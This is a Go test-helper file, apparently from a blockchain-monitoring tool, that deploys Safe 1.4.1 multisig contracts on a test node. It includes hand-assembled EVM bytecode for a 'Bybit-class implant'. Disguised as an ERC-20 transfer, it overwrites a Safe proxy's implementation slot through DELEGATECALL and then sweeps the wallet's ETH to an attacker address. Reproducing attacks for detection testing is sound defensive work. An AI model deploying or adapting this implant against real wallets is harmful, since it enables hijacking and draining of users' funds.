package safetest

import (
	"context"
	"math/big"
	"testing"

	"github.com/ethereum/go-ethereum"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/chainhound/chainhound/internal/scenario"
)

// ImplantCode is init code for a Bybit-class implant. Its runtime has two
// functions: transfer(address,uint256) stores the address into slot 0
// (called by DELEGATECALL from a Safe, it replaces the Safe's
// implementation while looking like an ERC-20 transfer), and
// sweepETH(address) sends the whole balance to the address (called through
// the hijacked proxy, it drains the Safe).
func ImplantCode() []byte {
	sweep := SweepSelector()
	rt := []byte{
		0x60, 0x00, 0x35, 0x60, 0xe0, 0x1c, // selector
		0x80, 0x63, 0xa9, 0x05, 0x9c, 0xbb, 0x14, 0x60, 0x1a, 0x57, // transfer -> 26
		0x63, sweep[0], sweep[1], sweep[2], sweep[3], 0x14, 0x60, 0x22, 0x57, // sweepETH -> 34
		0x00,
		0x5b, 0x60, 0x04, 0x35, 0x60, 0x00, 0x55, 0x00, // 26: sstore(0, arg0)
		0x5b, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x47, 0x60, 0x04, 0x35, 0x5a, 0xf1, 0x50, 0x00, // 34: call(gas, arg0, selfbalance)
	}
	init := []byte{0x60, byte(len(rt)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, rt...)
}

// SweepSelector is the implant's sweepETH(address) selector.
func SweepSelector() []byte { return crypto.Keccak256([]byte("sweepETH(address)"))[:4] }

// Deploy sends init code from key 0, seals it and fails the test unless
// the creation succeeded.
func Deploy(t testing.TB, n *scenario.Node, code []byte) common.Address {
	t.Helper()
	ctx := context.Background()
	a, h, err := n.Deploy(ctx, 0, code, nil, 12_000_000)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := n.Commit(); err != nil {
		t.Fatal(err)
	}
	MustSucceed(t, n, h, "deploy")
	return a
}

// MustSucceed fails the test unless the sealed transaction h succeeded.
func MustSucceed(t testing.TB, n *scenario.Node, h common.Hash, what string) *types.Receipt {
	t.Helper()
	r, err := n.Receipt(context.Background(), h)
	if err != nil {
		t.Fatal(err)
	}
	if r.Status != types.ReceiptStatusSuccessful {
		t.Fatalf("%s: transaction %s failed", what, h)
	}
	return r
}

// Safe141 deployment on a node.
type Env141 struct {
	Arts                                                      map[string]*Artifact
	Singleton, Factory, MultiSend, MultiSendCallOnly, Handler common.Address
	// Safe is a proxy set up with the given owners and threshold, funded
	// with 100 ETH.
	Safe common.Address
}

// DeploySafe141 deploys the Safe 1.4.1 singleton, proxy factory,
// MultiSend, MultiSendCallOnly and CompatibilityFallbackHandler from the
// npm package, and a Safe proxy of the owners (key indexes) with threshold.
func DeploySafe141(t testing.TB, n *scenario.Node, owners []int, threshold int64) *Env141 {
	t.Helper()
	ctx := context.Background()
	arts := Safe141Artifacts(t, "Safe", "SafeProxyFactory", "MultiSend", "MultiSendCallOnly", "CompatibilityFallbackHandler")
	e := &Env141{Arts: arts}
	e.Singleton = Deploy(t, n, arts["Safe"].Code())
	e.Factory = Deploy(t, n, arts["SafeProxyFactory"].Code())
	e.MultiSend = Deploy(t, n, arts["MultiSend"].Code())
	e.MultiSendCallOnly = Deploy(t, n, arts["MultiSendCallOnly"].Code())
	e.Handler = Deploy(t, n, arts["CompatibilityFallbackHandler"].Code())
	var addrs []common.Address
	for _, i := range owners {
		addrs = append(addrs, n.Address(i))
	}
	setup := arts["Safe"].Pack(t, "setup", addrs, big.NewInt(threshold), common.Address{}, []byte{}, e.Handler, common.Address{}, big.NewInt(0), common.Address{})
	create := arts["SafeProxyFactory"].Pack(t, "createProxyWithNonce", e.Singleton, setup, big.NewInt(0))
	factory := e.Factory
	out, err := n.Client().CallContract(ctx, ethereum.CallMsg{From: n.Address(0), To: &factory, Data: create}, nil)
	if err != nil {
		t.Fatalf("createProxyWithNonce (call): %v", err)
	}
	e.Safe = common.BytesToAddress(out[12:32])
	h, err := n.Send(ctx, 0, &factory, nil, create, 2_000_000)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := n.Send(ctx, 0, &e.Safe, new(big.Int).Mul(big.NewInt(100), big.NewInt(1e18)), nil, 100_000); err != nil {
		t.Fatal(err)
	}
	if _, err := n.Commit(); err != nil {
		t.Fatal(err)
	}
	MustSucceed(t, n, h, "create Safe proxy")
	return e
}
